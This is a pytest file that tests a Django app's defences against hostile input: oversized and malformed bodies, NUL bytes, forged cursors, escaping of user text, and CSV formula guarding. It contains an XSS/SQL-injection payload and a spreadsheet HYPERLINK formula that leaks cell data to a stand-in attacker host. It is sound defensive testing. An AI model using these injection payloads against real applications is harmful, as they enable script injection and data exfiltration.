"""Hostile input on every write endpoint (taken from the OpenAPI schema) and every list: clear 400s,
never a 500; text stored verbatim and escaped wherever it is shown.

Oversized bodies, deeply nested JSON, NUL bytes in every string field, invalid UTF-8, huge page
sizes and forged cursors, and SQL and HTML in every free-text field: the customer pages, the
outbox's emails (and, as they land, the staff pages and the weekly report's CSV) show it escaped.
"""

import base64
import json
import re
from functools import lru_cache

import pytest
from django.conf import settings
from django.db.models import CharField, Q, TextField
from django.test import Client
from drf_spectacular.generators import SchemaGenerator

from interactions.models import Interaction
from notifications.models import OutboundEmail
from recovery.services import bends as recovery_bends
from recovery.services import steps as recovery_steps

from .conftest import ADMIN
from .test_permission_matrix import _client, _customer_put, _gesture_put, _our_models, _team_put, call

# Short enough for every free-text field (the phone number's 40 characters included).
PAYLOAD = "<script>alert(1)</script>' OR 1=1;--"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
# Which team-A object fills `{id}` in a path, by the path's first segment.
PATH_OBJECTS = {"teams": "team", "users": "frontline", "customers": "customer_bare", "gestures": "gesture",
                "rules": "rule", "rule-bends": "bend", "recovery-cases": "case_fixed", "interactions": "interaction",
                "webhooks": "webhook", "inbox": "inbox_item",
                "ideas": "idea"}


@lru_cache(maxsize=1)
def _schema():
    return SchemaGenerator().get_schema(request=None, public=True)


def _request_properties(operation) -> dict:
    body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema", {})
    name = body.get("$ref", "").split("/")[-1]
    return _schema()["components"]["schemas"].get(name, {}).get("properties", {})


def write_operations() -> list[tuple[str, str]]:
    return sorted(
        (method.upper(), path)
        for path, item in _schema()["paths"].items()
        for method, op in item.items()
        if method in ("post", "put", "patch") and "requestBody" in op
    )


def list_operations() -> list[str]:
    return sorted(
        path for path, item in _schema()["paths"].items()
        if "get" in item and any(p["name"] == "page_size" for p in item["get"].get("parameters", []))
    )


def string_fields(method: str, path: str) -> list[str]:
    props = _request_properties(_schema()["paths"][path][method.lower()])
    return sorted(k for k, v in props.items() if v.get("type") == "string" and not v.get("readOnly"))


def free_text_fields(method: str, path: str) -> list[str]:
    """String fields without a format (no dates, decimals, emails) and not credentials."""
    props = _request_properties(_schema()["paths"][path][method.lower()])
    return sorted(
        k for k, v in props.items()
        if v.get("type") == "string" and not v.get("format") and not v.get("readOnly")
        and "enum" not in v and k not in ("username", "password")
    )


def _fill(path: str, world) -> str:
    segment = path.strip("/").split("/")[1]
    return path.replace("{id}", str(world["A"][PATH_OBJECTS[segment]].pk)) if "{id}" in path else path


def _admin(world):
    return _client(ADMIN, world)


def _raw(client, method, path, body: bytes, content_type="application/json"):
    return getattr(client, method.lower())(path, data=body, content_type=content_type)


# --- Size, depth, encoding ---------------------------------------------------------------------


@pytest.mark.parametrize("method,path", write_operations())
def test_a_body_over_the_upload_limit_is_refused_not_a_server_error(method, path, world):
    body = json.dumps({"name": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)}).encode()
    response = _raw(_admin(world), method, _fill(path, world), body)
    assert response.status_code in (400, 413), response.status_code


@pytest.mark.parametrize("method,path", write_operations())
def test_json_nested_ten_thousand_levels_deep_is_a_400(method, path, world):
    for body in ("[" * 10_000 + "]" * 10_000, '{"a":' * 10_000 + "1" + "}" * 10_000):
        response = _raw(_admin(world), method, _fill(path, world), body.encode())
        assert response.status_code == 400, f"{method} {path}: {response.status_code}"


@pytest.mark.parametrize("method,path", write_operations())
def test_a_body_that_is_not_utf8_is_a_400(method, path, world):
    for body in (b'{"name": "\xff\xfe\xc3"}', b"\xc0\xaf\xed\xa0\x80", b'{"note": "\xed\xa0\x80"}'):
        response = _raw(_admin(world), method, _fill(path, world), body)
        assert response.status_code == 400, f"{method} {path} {body!r}: {response.status_code}"


@pytest.mark.parametrize("method,path", [op for op in write_operations() if string_fields(*op)])
def test_a_nul_byte_in_any_string_field_is_a_400_naming_the_field(method, path, world):
    fields = string_fields(method, path)
    for name in fields:
        response, changed = call(_admin(world), method, _fill(path, world), {name: "a\x00b"})
        assert response.status_code == 400, f"{method} {path} {name}: {response.status_code}"
        assert name in response.data, f"{method} {path}: no message for {name}: {response.data}"
        assert not changed


def test_a_nul_byte_or_invalid_utf8_in_a_query_or_path_is_not_a_server_error(world):
    client = _admin(world)
    for path in list_operations():
        for query in ("search=a%00b", "search=%FF%FE", "team=%00", "customer=1%00", "status=%C0%AF"):
            response = client.get(f"{_fill(path, world)}?{query}")
            assert response.status_code in (200, 400), f"{path}?{query}: {response.status_code}"
    for path in ("/api/customers/%00/", "/api/customers/%FF/", "/feedback/%00/", "/status/%FF%FE/"):
        assert client.get(path).status_code == 404, path
    pages = Client()
    pages.force_login(world["users"][ADMIN])
    for path in ("/api/reports/weekly/", "/reports/weekly/", "/reports/weekly.csv", "/reports/weekly/chart.png"):
        for query in ("team=%00&week=2026-W01", "team=1&week=%00", "team=%FF&week=%C0%AF", "team=99999999999999999999&week=9999-W99"):
            response = (client if path.startswith("/api/") else pages).get(f"{path}?{query}")
            assert response.status_code in (400, 404), f"{path}?{query}: {response.status_code}"


# --- Pagination -----------------------------------------------------------------------------------


def _cursor(raw: str) -> str:
    return base64.b64encode(raw.encode()).decode()


FORGED_CURSORS = [
    "garbage", "%%%", "", "=" * 10, _cursor("p=abc"), _cursor("p=99999999999999999999999999"), _cursor("p=-1"),
    _cursor("p=1e400"), _cursor("o=99999999999999999999&p=1"), _cursor("r=7&p=1"), _cursor("p=\x00"),
    _cursor("p=2026-13-45T99:99:99"), _cursor("o=-5"), _cursor("p=" + "9" * 5000),
]


@pytest.mark.parametrize("path", list_operations())
def test_huge_page_sizes_are_bounded_and_forged_cursors_are_a_400(path, world):
    client = _admin(world)
    schema_path, path = path, _fill(path, world)  # a list under an object (a webhook's deliveries)
    for size in ("1000000", "99999999999999999999999999999", "-1", "0", "abc", "1e9"):
        response = client.get(path, {"page_size": size})
        assert response.status_code in (200, 400), f"{path} page_size={size}: {response.status_code}"
        if response.status_code == 200:
            assert len(response.data["results"]) <= 200
    params = {p["name"] for p in _schema()["paths"][schema_path]["get"]["parameters"]}
    for cursor in FORGED_CURSORS if "cursor" in params else ():
        for ordering in ({}, {"ordering": "fix_due"}) if "recovery-cases" in path else ({},):
            response = client.get(path, {"cursor": cursor, **ordering})
            assert response.status_code in (200, 400), f"{path} cursor={cursor!r}: {response.status_code}"
            if cursor in ("garbage", _cursor("p=abc"), _cursor("p=99999999999999999999999999"), _cursor("p=\x00")):
                assert response.status_code == 400 and "cursor" in response.data, f"{path} cursor={cursor!r}"


# --- SQL and HTML: stored verbatim, shown escaped ------------------------------------------------


def _stored_verbatim(text: str) -> bool:
    for model in _our_models():
        columns = [f.name for f in model._meta.concrete_fields if isinstance(f, (CharField, TextField))]
        if columns:
            q = Q()
            for column in columns:
                q |= Q(**{f"{column}__contains": text})
            if model.objects.filter(q).exists():
                return True
    return False


# A valid body per write operation (as an admin, on team A's objects); each text field is replaced in turn.
VALID = {
    ("POST", "/api/customers/"): lambda w: {"team": w["A"]["team"].id, "name": "Newcomer"},
    ("PUT", "/api/customers/{id}/"): _customer_put,  # a PUT names every field
    ("PATCH", "/api/customers/{id}/"): lambda w: {"name": "Renamed"},
    ("POST", "/api/gestures/"): lambda w: {"team": w["A"]["team"].id, "name": "Coffee", "base_level": 5},
    ("PUT", "/api/gestures/{id}/"): _gesture_put,
    ("PATCH", "/api/gestures/{id}/"): lambda w: {"name": "Tea"},
    ("POST", "/api/interactions/"): lambda w: {"customer": w["A"]["customer"].id, "channel": "phone"},
    ("PATCH", "/api/interactions/{id}/"): lambda w: {"summary": "Corrected", "note": "typo"},
    ("POST", "/api/recovery-cases/{id}/close/"): lambda w: {"reason": "Moved away"},
    ("POST", "/api/recovery-cases/{id}/fix/"): None,  # the open case: see _target
    ("POST", "/api/recovery-cases/{id}/notes/"): lambda w: {"note": "Called her"},
    ("POST", "/api/recovery-cases/{id}/surprise/"): lambda w: {"gesture": w["A"]["gesture"].id},
    ("POST", "/api/rule-bends/"): lambda w: {"rule": w["A"]["rule"].id, "customer": w["A"]["customer"].id,
                                             "justification": "Loyal", "cost": "5"},
    ("POST", "/api/rule-bends/{id}/approve/"): lambda w: {},
    ("POST", "/api/rule-bends/{id}/reject/"): lambda w: {"note": "Not this time"},
    ("POST", "/api/rules/"): lambda w: {"team": w["A"]["team"].id, "name": "Receipts"},
    ("POST", "/api/ideas/"): lambda w: {"team": w["A"]["team"].id, "kind": "gesture", "title": "Polaroid", "story": "They ask."},
    ("POST", "/api/ideas/{id}/accept/"): lambda w: {},
    ("POST", "/api/ideas/{id}/decline/"): lambda w: {"note": "No"},
    ("PUT", "/api/rules/{id}/"): lambda w: {"name": "Receipts", "description": "", "active": True},
    ("PATCH", "/api/rules/{id}/"): lambda w: {"name": "Receipts"},
    ("POST", "/api/teams/"): lambda w: {"name": "Team C", "timezone": "UTC"},
    ("PUT", "/api/teams/{id}/"): _team_put,
    ("PATCH", "/api/teams/{id}/"): lambda w: {"name": "Team A2"},
    ("POST", "/api/users/"): lambda w: {"username": "newbie", "password": "a-long-passphrase-42"},
    ("PATCH", "/api/users/{id}/"): lambda w: {"first_name": "F"},
    ("POST", "/api/inbox/{id}/assess/"): lambda w: {"promise_kept": True},
    ("POST", "/api/inbox/{id}/dismiss/"): lambda w: {"reason": "Spam"},
}


def _target(method, path, world):
    if path == "/api/recovery-cases/{id}/fix/":
        return f"/api/recovery-cases/{world['A']['case'].pk}/fix/", {}
    return _fill(path, world), VALID[(method, path)](world)


def test_every_write_operation_has_a_valid_body_for_the_text_checks():
    missing = [op for op in write_operations() if op not in VALID and free_text_fields(*op) and op != ("POST", "/api/auth/token/")]
    assert not missing, f"add a valid body to VALID in {__file__}: {missing}"


@pytest.mark.parametrize("method,path", sorted(VALID))
def test_sql_and_html_in_every_text_field_are_stored_verbatim(method, path, world):
    fields = free_text_fields(method, path)
    assert fields
    for name in fields:
        target, body = _target(method, path, world)
        response, changed = call(_admin(world), method, target, {**body, name: PAYLOAD}, None)
        assert response.status_code in (200, 201), f"{method} {path} {name}: {response.status_code} {response.data}"
        if name in response.data:
            assert response.data[name] == PAYLOAD
        # The savepoint is gone: send it again and look for the text in the database before rolling back.
        from django.db import transaction

        with transaction.atomic():
            _admin(world).generic(method, target, json.dumps({**body, name: PAYLOAD}), content_type="application/json")
            assert _stored_verbatim(PAYLOAD), f"{method} {path} {name}: the text was not stored verbatim"
            transaction.set_rollback(True)


def _hostile_world(world):
    """Team A's name, customer and notes carry HTML; its closed case and feedback link are the pages to look at."""
    a = world["A"]
    a["team"].name = PAYLOAD
    a["team"].save()
    a["customer"].name = PAYLOAD
    a["customer"].save()
    return a


def _assert_escaped(html: str, where: str):
    assert "<script>alert(1)</script>" not in html, f"{where}: raw HTML from a user"
    assert ESCAPED in html, f"{where}: the text is not shown at all (nothing to check)"


def test_customer_pages_show_user_text_escaped(world):
    a = _hostile_world(world)
    client = Client()
    status = client.get(f"/status/{a['status_token']}/")
    _assert_escaped(status.content.decode(), "status page")
    recovered = client.get(f"/feedback/recovered/{a['recovered_token']}/")
    _assert_escaped(recovered.content.decode(), "recovered-level page")
    # A refused rating stores nothing; after a rating, the comment box echoes a refused comment back escaped.
    page = client.get(f"/feedback/{a['feedback_token']}/")
    token = client.cookies[settings.CSRF_COOKIE_NAME].value
    answer = client.post(f"/feedback/{a['feedback_token']}/", {"level": "9", "comment": PAYLOAD, "csrfmiddlewaretoken": token})
    assert page.status_code == 200 and answer.status_code == 400
    nul = client.post(f"/feedback/{a['feedback_token']}/", {"level": "4", "comment": "a\x00b", "csrfmiddlewaretoken": token})
    assert nul.status_code == 400
    assert Interaction.objects.get(pk=a["interaction"].pk).customer_level is None
    assert client.post(f"/feedback/{a['feedback_token']}/", {"level": "4", "csrfmiddlewaretoken": token}).status_code == 302
    too_long = client.post(f"/feedback/{a['feedback_token']}/", {"comment": PAYLOAD + "x" * 2001, "csrfmiddlewaretoken": token})
    assert too_long.status_code == 400
    _assert_escaped(too_long.content.decode(), "feedback comment form")
    assert Interaction.objects.get(pk=a["interaction"].pk).customer_comment == ""


def test_emails_carry_user_text_verbatim_in_text_and_escaped_in_html(world):
    a = _hostile_world(world)
    a["rule"].name = PAYLOAD
    a["rule"].save()
    recovery_bends.bend_request(actor=a["frontline"], rule=a["rule"], customer=a["customer"], justification=PAYLOAD, cost="50")
    case = recovery_steps.case_fix(actor=a["frontline"], case=a["case"])
    recovery_steps.case_close(actor=a["manager"], case=case, reason="done")  # the recovered-level email to the customer
    emails = list(OutboundEmail.objects.all())
    assert len(emails) >= 2
    for email in emails:
        assert "\x00" not in email.subject + email.text
        if email.html and PAYLOAD in email.text:  # an email that carries no user text has nothing to escape
            _assert_escaped(email.html, f"email {email.subject!r} (html)")
    assert any(PAYLOAD in e.text for e in emails), "user text missing from the plain-text part"
    # Subjects are one line: no header injection through a name.
    assert not any(re.search(r"[\r\n]", e.subject) for e in emails)


def test_weekly_report_page_csv_and_mail_show_user_text_escaped_and_formula_guarded(
    world, smtp_server, django_capture_on_commit_callbacks
):
    from django.utils import timezone

    from reports.services import weekly_report_send
    from reports.weeks import last_full_week

    a = world["A"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    a["team"].name = f"{formula} {PAYLOAD}"
    a["team"].save()
    week = last_full_week(timezone.now(), a["team"].tz)
    pages = Client()
    pages.force_login(a["manager"])
    query = f"?team={a['team'].id}&week={week}"
    page = pages.get("/reports/weekly/" + query)
    assert page.status_code == 200
    _assert_escaped(page.content.decode(), "weekly report page")
    csv_text = pages.get("/reports/weekly.csv" + query).content.decode()
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    assert f"'{formula} {PAYLOAD}" in cells, "the team's name is not in the CSV, guarded"
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())], "a cell a spreadsheet would run"
    with django_capture_on_commit_callbacks(execute=True):  # it mails after commit
        weekly_report_send(team=a["team"], week=week)
    assert smtp_server.messages, "no report mail"
    for message in smtp_server.messages:
        for part in message.walk():
            if part.get_content_type() == "text/html":
                _assert_escaped(part.get_payload(decode=True).decode(), "report mail (html)")
            if part.get_content_type() == "text/plain":
                assert PAYLOAD in part.get_payload(decode=True).decode()


def test_staff_pages_show_every_user_text_escaped(world):
    """Names, notes and summaries a user typed, on every staff page that shows them."""
    from django.urls import reverse

    from interactions.services import interaction_log

    a = world["A"]
    for obj, field in (("team", "name"), ("customer", "name"), ("customer", "preferences"), ("rule", "name"),
                       ("rule", "description"), ("gesture", "name"), ("gesture", "description")):
        setattr(a[obj], field, PAYLOAD)
        a[obj].save()
    logged = interaction_log(actor=a["frontline"], customer=a["customer"], channel="email", promise_kept=False, summary=PAYLOAD)
    recovery_steps.case_fix(actor=a["frontline"], case=logged.recovery_case, note=PAYLOAD)
    recovery_bends.bend_request(actor=a["frontline"], rule=a["rule"], customer=a["customer"], justification=PAYLOAD, cost="50")
    client = Client()
    client.force_login(a["manager"])
    pages = ["/", reverse("web:dashboard-open-cases"), reverse("web:customers"),
             reverse("web:customer-detail", args=[a["customer"].pk]), reverse("web:cases"),
             reverse("web:case-detail", args=[logged.recovery_case.pk]), reverse("web:bends"), reverse("web:rules"),
             reverse("web:gestures"), reverse("web:gesture-edit", args=[a["gesture"].pk]),
             reverse("web:team-settings", args=[a["team"].pk]), f"{reverse('web:log')}?customer={a['customer'].pk}",
             f"{reverse('web:log-customers')}?q=script", f"{reverse('web:log-gestures')}?customer={a['customer'].pk}"]
    for path in pages:
        response = client.get(path)
        assert response.status_code == 200, f"{path}: {response.status_code}"
        _assert_escaped(response.content.decode(), path)


@pytest.mark.parametrize("path,body", [
    ("web:rule-create", lambda w: {"team": w["A"]["team"].id, "name": "a\x00b", "description": "x"}),
    ("web:gesture-create", lambda w: {"team": w["A"]["team"].id, "name": "a\x00b", "description": "", "base_level": 5, "cost": "1"}),
    ("web:log", lambda w: {"customer": w["A"]["customer"].id, "channel": "phone", "summary": "a\x00b"}),
    ("web:profile", lambda w: {"language": "\x00"}),
])
def test_staff_forms_refuse_nul_bytes_with_a_400(path, body, world):
    from django.urls import reverse

    client = Client()
    client.force_login(world["A"]["manager"])
    response, changed = call(client, "POST", reverse(path), body(world))
    assert response.status_code == 400, f"{path}: {response.status_code}"
    assert not changed
